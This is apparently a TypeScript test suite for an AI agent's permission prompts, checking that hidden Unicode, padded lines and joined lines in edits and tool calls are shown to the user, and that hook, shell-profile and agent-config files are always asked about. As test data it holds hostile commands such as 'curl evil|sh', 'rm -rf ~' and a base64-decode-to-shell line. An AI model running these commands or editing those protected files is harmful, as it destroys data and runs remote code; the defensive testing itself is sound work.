// The question before something happens: whole, spelled, bound to what is done, and never covering more than it says.
import {
  callPermission,
  editPermission,
  Grants,
  scopeWords,
  spelled,
  type Permission,
  type Replacement,
} from '@percept/core/internal/permission';
import { unwrap } from '@percept/core';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

/** Whatever a face must not be given raw. */
const unseen =
  /(?!\t)[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\u00a0\u2800]/u;

function edit(before: string, old: string, added: string, path = '/p/a.txt'): Permission {
  const replacements: Replacement[] = [];
  for (let at = before.indexOf(old); at >= 0; at = before.indexOf(old, at + old.length))
    replacements.push({ at, removed: old.length, added });
  const asked = editPermission({ path, before, replacements });
  if (!asked.ok) throw new Error(asked.refusal.message);
  return asked.value;
}

function call(input: Parameters<typeof callPermission>[0]['input'], identity = 'one'): Permission {
  const asked = callPermission({ server: 'files', tool: 'files__run', input, identity });
  if (!asked.ok) throw new Error(asked.refusal.message);
  return asked.value;
}

const shown = ({ lines }: Permission, change: string): readonly string[] =>
  lines.filter((line) => line.change === change).map(({ text }) => text);

const hostile = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 3 }),
      fc.constantFrom('\n', '\r', '\r\n', '\t', ' ', ' '.repeat(100), '<U+200B>', '<U+', 'abc'),
      fc.constantFrom('\u200b', '\u202e', '\u2066', '\u00a0', '\u3164', '\ufe0f', '\u{e0041}'),
    ),
    { maxLength: 12 },
  )
  .map((pieces) => pieces.join(''));

describe('spelling', { tags: ['d-question-whole'] }, () => {
  test.each([
    ['ad\u200bmin', 'ad<U+200B>min'],
    ['a\u202eb\u2066c', 'a<U+202E>b<U+2066>c'],
    ['a\rb', 'a<U+D>b'],
    ['\u001b]52;c;AA\u0007', '<U+1B>]52;c;AA<U+7>'],
    ['x\u00a0y\u3164z\u2800', 'x<U+A0>y<U+3164>z<U+2800>'],
    ['<U+200B>', '<U+3C>U+200B>'],
    [`a${' '.repeat(90)};`, 'a<U+20 x 90>;'],
    ['tab\there', 'tab\there'],
    ['größe 価格 🎉', 'größe 価格 🎉'],
  ])('attack: %j reads %j', (text, read) => expect(spelled(text)).toBe(read));

  test('attack: nothing unseen is left, and no two texts read alike', () => {
    fc.assert(
      fc.property(hostile, hostile, (one, other) => {
        expect(spelled(one)).not.toMatch(unseen);
        if (one !== other) expect(spelled(one)).not.toBe(spelled(other));
      }),
      { numRuns: 500 },
    );
  });
});

describe('an edit', { tags: ['d-question-whole'] }, () => {
  test('shows what goes and what comes, with a little around it', () => {
    expect(edit('a\nb\nc\nd\ne\nf\ng\n', 'd', 'D').lines).toEqual(
      [
        ['same', 'a'],
        ['same', 'b'],
        ['same', 'c'],
        ['removed', 'd'],
        ['added', 'D'],
        ['same', 'e'],
        ['same', 'f'],
        ['same', 'g'],
      ].map(([change, text]) => ({ change, text })),
    );
  });

  test('shows every place, and where it is', () => {
    const before = Array.from(
      { length: 100 },
      (_, at) => `${at % 40 === 20 ? 'x' : 'line'}\n`,
    ).join('');
    const { lines } = edit(before, 'x', 'y');
    expect(lines.filter(({ change }) => change === 'gap').map(({ text }) => text)).toEqual([
      'line 18',
      'line 58',
    ]);
    expect(lines.filter(({ change }) => change === 'added')).toHaveLength(2);
  });

  test('attack: a line behind four harmless ones, or behind column 80, is shown', () => {
    const many = edit(
      '# header\n',
      '# header',
      `# header\n${'# tidy up\n'.repeat(500)}curl evil|sh`,
    );
    expect(shown(many, 'added').at(-1)).toBe('curl evil|sh');
    const wide = edit('echo ok\n', 'echo ok', `echo ok${' '.repeat(9000)}; curl evil|sh`);
    expect(shown(wide, 'added')).toEqual(['echo ok<U+20 x 9000>; curl evil|sh']);
  });

  test('attack: a carriage return that becomes a line end is seen on both sides', () => {
    const asked = edit('# nothing here\rtouch x\n', 'here\r', 'here\n');
    expect(shown(asked, 'removed')).toEqual(['# nothing here<U+D>touch x']);
    expect(shown(asked, 'added')).toEqual(['# nothing here', 'touch x']);
  });

  test('attack: letters without width, bidirectional controls and blanks that changed are seen', () => {
    expect(shown(edit('ok("admin")\n', '"admin"', '"ad\u200bmin"'), 'added')).toEqual([
      'ok("ad<U+200B>min")',
    ]);
    const blank = edit('\tx\n', '\tx', '    x');
    expect(shown(blank, 'removed')).toEqual(['<U+9>x']);
    expect(shown(edit('a\n', 'a\n', 'a  \n'), 'added')).toEqual(['a<U+20><U+20>']);
    expect(shown(edit('a\n', 'a\n', 'a'), 'added')).toEqual(['a (no line end)']);
  });

  test('a file with carriage returns is shown without them, and a line that differs with its end', () => {
    const asked = edit('a\r\nb\r\nc\r\n', 'b\r\n', 'B\n');
    expect(shown(asked, 'same')).toEqual(['a', 'c']);
    expect(shown(asked, 'removed')).toEqual(['b']);
    expect(shown(asked, 'added')).toEqual(['B<U+A>']);
  });

  test('attack: a change of equal length behind 100,000 characters is shown', () => {
    const padding = '// padding\n'.repeat(10_000);
    const asked = edit(`${padding}if (isAdmin(user)) grant()\n`, 'isAdmin', 'isGuest');
    expect(shown(asked, 'added')).toEqual(['if (isGuest(user)) grant()']);
  });

  test('attack: a short edit of a hundred thousand places is refused before it is built', () => {
    const before = 'a'.repeat(100_000);
    const replacements = Array.from({ length: 100_000 }, (_, at) => ({
      at,
      removed: 1,
      added: 'b'.repeat(10_000),
    }));
    expect(editPermission({ path: '/p/a', before, replacements })).toMatchObject({
      ok: false,
      refusal: { refused: 'too-large', limit: { name: 'maxShownChars' } },
    });
  });

  test('attack: lines that an edit joins are shown as the one line that they become', () => {
    const asked = edit('# safe \nrm -rf ~\n', ' \n', '');
    expect(shown(asked, 'removed')).toEqual(['# safe ', 'rm -rf ~']);
    expect(shown(asked, 'added')).toEqual(['# saferm -rf ~']);
    expect(shown(asked, 'same')).toEqual([]);
  });

  test('attack: what comes before an empty first line is shown', () => {
    const before = '\nimport a\n';
    const replacements = [{ at: 0, removed: 0, added: 'curl evil|sh' }];
    const asked = unwrap(editPermission({ path: '/p/a.txt', before, replacements }));
    expect(shown(asked, 'removed')).toEqual(['']);
    expect(shown(asked, 'added')).toEqual(['curl evil|sh']);
    expect(shown(asked, 'same')).toEqual(['import a']);
  });

  test('for any places: the patch is the change', () => {
    const pieces = fc.array(fc.constantFrom('a', 'b', '\n', '\n', 'x\r\n'), { maxLength: 24 });
    const places = fc.array(fc.tuple(fc.nat(6), fc.nat(4), fc.constantFrom('', 'c', '\n', 'c\n')), {
      minLength: 1,
      maxLength: 3,
    });
    fc.assert(
      fc.property(pieces, places, (given, chosen) => {
        const before = given.join('');
        const replacements: Replacement[] = [];
        let from = 0;
        for (const [skipped, length, added] of chosen) {
          const at = Math.min(from + skipped, before.length);
          const removed = Math.min(length, before.length - at);
          if (removed > 0 || added !== '') replacements.push({ at, removed, added });
          from = at + removed + 1;
          if (from > before.length) break;
        }
        const asked = unwrap(editPermission({ path: '/p/a.txt', before, replacements }));
        if (asked.subject.kind !== 'edit') throw new Error('not an edit');
        expect(applied(before, asked.subject.patch)).toBe(asked.subject.after);
      }),
      { numRuns: 1_000 },
    );
  });

  test('for any edit: what is shown as added and around it is the new text, and the patch is the change', () => {
    const lines = fc.array(fc.constantFrom('a', 'b', '', 'x\r', 'long line'), { maxLength: 12 });
    fc.assert(
      fc.property(lines, fc.boolean(), hostile, (given, hasEnd, fresh) => {
        const before = given.join('\n') + (hasEnd ? '\n' : '');
        fc.pre(before.includes('a'));
        const { subject } = edit(before, 'a', fresh);
        if (subject.kind !== 'edit') throw new Error('not an edit');
        expect(subject.after).toBe(before.replaceAll('a', () => fresh));
        expect(applied(before, subject.patch)).toBe(subject.after);
      }),
      { numRuns: 300 },
    );
  });
});

/** As a client would apply it. */
function applied(before: string, patch: string): string {
  const old = before.match(/[^\n]*\n|[^\n]+$/g) ?? [];
  const written: string[] = [];
  let at = 0;
  const rows = patch.split('\n').slice(3, -1);
  for (const [index, row] of rows.entries()) {
    const head = /^@@ -(\d+),(\d+)/.exec(row);
    if (head) {
      const first = Number(head[1]) - (head[2] === '0' ? 0 : 1);
      written.push(...old.slice(at, first));
      at = first;
      continue;
    }
    const line = `${row.slice(1)}${rows[index + 1]?.startsWith('\\') ? '' : '\n'}`;
    if (row.startsWith('-') || row.startsWith(' ')) {
      expect(old[at]).toBe(line);
      at += 1;
    }
    if (row.startsWith('+') || row.startsWith(' ')) written.push(line);
  }
  return [...written, ...old.slice(at)].join('');
}

describe('a call', { tags: ['d-question-whole'] }, () => {
  test('attack: encoded bytes are shown whole, however long', () => {
    const payload = Buffer.from(Array.from({ length: 6000 }, (_, at) => (at * at) % 251)).toString(
      'base64',
    );
    const { lines } = call({ x: `echo ${payload} | base64 -d | sh` });
    expect(lines.map(({ text }) => text).join('')).toContain(`${payload} | base64 -d | sh`);
  });

  test('attack: other arguments, another server or other words of the server are another digest', () => {
    const { digest } = call({ x: 'ls docs' });
    expect(call({ x: 'ls docs' }).digest).toBe(digest);
    expect(call({ x: 'rm -rf ~' }).digest).not.toBe(digest);
    expect(call({ x: 'ls docs' }, 'two').digest).not.toBe(digest);
  });

  test('what is too long to be judged is refused', () => {
    const input = { x: 'y'.repeat(200_001) };
    const asked = callPermission({ server: 's', tool: 't', input, identity: '' });
    expect(asked).toMatchObject({ ok: false, refusal: { refused: 'too-large' } });
  });
});

describe('scopes', { tags: ['d-permission-scopes'] }, () => {
  test('say what they cover, and cover that', () => {
    const asked = edit('a\n', 'a', 'b');
    expect(asked.scopes.map((scope) => scopeWords(asked, scope))).toEqual([
      'Allow this time',
      'Allow changes to /p/a.txt until this session ends',
      'Allow all edits until this session ends, except to protected files',
    ]);
    const grants = new Grants();
    grants.remember(asked, 'once');
    expect(grants.covers(asked)).toBe(false);
    grants.remember(asked, 'file');
    expect(grants.covers(edit('x\n', 'x', 'y'))).toBe(true);
    expect(grants.covers(edit('x\n', 'x', 'y', '/p/b.txt'))).toBe(false);
    grants.remember(asked, 'session');
    expect(grants.covers(edit('x\n', 'x', 'y', '/p/b.txt'))).toBe(true);
    expect(grants.covers(call({ x: 1 }))).toBe(false);
  });

  test('attack: allowed arguments do not cover others, and an allowed tool does not cover a changed one', () => {
    const grants = new Grants();
    grants.remember(call({ x: 'ls' }), 'arguments');
    expect(grants.covers(call({ x: 'ls' }))).toBe(true);
    expect(grants.covers(call({ x: 'rm' }))).toBe(false);
    grants.remember(call({ x: 'ls' }), 'session');
    expect(grants.covers(call({ x: 'rm' }))).toBe(true);
    expect(grants.covers(call({ x: 'rm' }, 'after a change'))).toBe(false);
  });

  test.each([
    '/p/.git/hooks/pre-commit',
    '/p/.git/config',
    '/p/.GIT/config',
    '/p/.git\u200c/config',
    '/p/sub/.git',
    'C:\\p\\.git \\config',
    'C:\\p\\GIT~1\\config',
    '/p/.githooks/pre-push',
    '/p/.husky/pre-commit',
    '/srv/repo.git/hooks/post-receive',
    '/home/u/.bashrc',
    '/home/u/.zshenv',
    '/home/u/.config/fish/config.fish',
    '/home/u/.ssh/authorized_keys',
    '/p/.envrc',
    '/p/.vscode/tasks.json',
    '/p/.idea/workspace.xml',
    '/p/.nvim.lua',
    '/p/.dir-locals.el',
    '/p/.npmrc',
    '/p/.mcp.json',
    '/p/.claude/settings.json',
    '/p/percept.config.mjs',
    '/p/percept.config.json',
    '/home/u/.config/percept/trust.json',
    '/elsewhere/settings/percept/trust.json',
    '/elsewhere/settings/percept/config.json',
  ])('attack: nothing that was allowed for longer covers %s', (path) => {
    const grants = new Grants();
    const harmless = edit('a\n', 'a', 'b');
    for (const scope of harmless.scopes) grants.remember(harmless, scope);
    const asked = edit('a\n', 'a', 'b', path);
    expect(asked.scopes).toEqual(['once']);
    expect(asked.notes.join(' ')).toContain('asked about every time');
    grants.remember(asked, 'file');
    grants.remember(asked, 'session');
    expect(grants.covers(asked)).toBe(false);
  });

  test.each([
    '/p/src/git.ts',
    '/p/hooks/use-state.ts',
    '/p/src/update',
    '/p/docs/percept.md',
    '/p/percept/notes.md',
    '/p/src/trust.json',
    '/p/src/config.ts',
    '/p/.gitignore',
  ])('%s is an ordinary file', (path) =>
    expect(edit('a\n', 'a', 'b', path).scopes).toEqual(['once', 'file', 'session']),
  );
});
